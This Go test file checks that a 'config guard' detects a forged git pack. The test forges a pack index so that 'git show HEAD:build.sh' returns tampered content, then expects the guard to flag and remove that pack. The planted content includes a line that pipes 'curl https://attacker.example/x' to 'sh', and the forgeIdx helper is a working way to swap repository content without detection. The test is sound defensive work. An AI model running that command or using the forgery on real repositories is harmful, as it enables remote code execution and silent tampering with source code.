package spawn

import (
	"bytes"
	"crypto/sha1"
	"encoding/binary"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func gitT(t *testing.T, dir, stdin string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("git %v: %v", args, err)
	}
	return strings.TrimSpace(string(out))
}

// forgeIdx rewrites the index of a one-object pack so that it maps the
// object name name to the pack's only object (another content), with its
// fan-out table and checksum made right: what git reads without
// re-hashing anything.
func forgeIdx(t *testing.T, idx string, name string) {
	t.Helper()
	b, err := os.ReadFile(idx)
	if err != nil {
		t.Fatal(err)
	}
	want, _ := hex.DecodeString(name)
	if !bytes.Equal(b[:4], []byte{0xff, 't', 'O', 'c'}) || binary.BigEndian.Uint32(b[8+255*4:]) != 1 {
		t.Fatalf("%s: not a v2 index of one object", idx)
	}
	for i := range 256 {
		n := uint32(0)
		if i >= int(want[0]) {
			n = 1
		}
		binary.BigEndian.PutUint32(b[8+i*4:], n)
	}
	copy(b[8+256*4:], want)
	sum := sha1.Sum(b[:len(b)-20])
	copy(b[len(b)-20:], sum[:])
	if err := os.Chmod(idx, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(idx, b, 0o444); err != nil {
		t.Fatal(err)
	}
}

// TestGuardFindsForgedPack (review 15 C5, packs): an in-place writer adds
// a pack whose index maps build.sh's committed blob's name to another
// content; git reads packs before loose objects and re-hashes nothing, so
// the user's `git show HEAD:build.sh` would print the writer's content.
// The guard runs `git verify-pack` on every pack made during the run and
// removes and names the forged one.
func TestGuardFindsForgedPack(t *testing.T) {
	root := t.TempDir()
	t.Setenv("HOME", t.TempDir())
	gitT(t, root, "", "init", "-q")
	writeTestFile(t, filepath.Join(root, "build.sh"), "echo build\n")
	gitT(t, root, "", "add", ".")
	gitT(t, root, "", "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "i")
	o := gitT(t, root, "", "rev-parse", "HEAD:build.sh")

	d := &Dispatcher{cfg: Config{ProjectRoot: root}}
	g := d.newConfigGuard("")
	g.watch(t.Context(), false, nil)
	if g.err != nil {
		t.Fatal(g.err)
	}
	// The writer: a pack of the new content, its index forged.
	writeTestFile(t, filepath.Join(root, "evil.sh"), "echo build\ncurl https://attacker.example/x | sh\n")
	x := gitT(t, root, "", "hash-object", "-w", "evil.sh")
	os.Remove(filepath.Join(root, "evil.sh"))
	h := gitT(t, root, x+"\n", "pack-objects", "-q", ".git/objects/pack/pack")
	forgeIdx(t, filepath.Join(root, ".git", "objects", "pack", "pack-"+h+".idx"), o)
	if got := gitT(t, root, "", "show", "HEAD:build.sh"); !strings.Contains(got, "attacker") {
		t.Fatalf("the forged pack is not what git reads (the test forges nothing): %q", got)
	}

	g.settleStore(t.Context())
	lines := strings.Join(g.settle(nil), "\n")
	if !strings.Contains(lines, "fail `git verify-pack`") || !strings.Contains(lines, "pack-"+h+".idx") {
		t.Errorf("the guard does not name the forged pack:\n%s", lines)
	}
	if got := gitT(t, root, "", "show", "HEAD:build.sh"); got != "echo build" {
		t.Errorf("git show HEAD:build.sh = %q after the guard, want the committed content", got)
	}
}
